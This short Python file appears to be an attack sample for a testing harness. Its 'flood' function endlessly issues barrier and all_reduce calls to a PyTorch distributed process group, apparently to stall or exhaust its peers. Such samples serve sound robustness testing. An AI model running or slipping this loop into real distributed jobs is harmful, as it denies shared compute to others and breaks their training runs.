import torch
import torch.distributed as dist
from attack import *


@at_call
def flood():
    while True:
        dist.barrier()
        dist.all_reduce(torch.zeros(0))
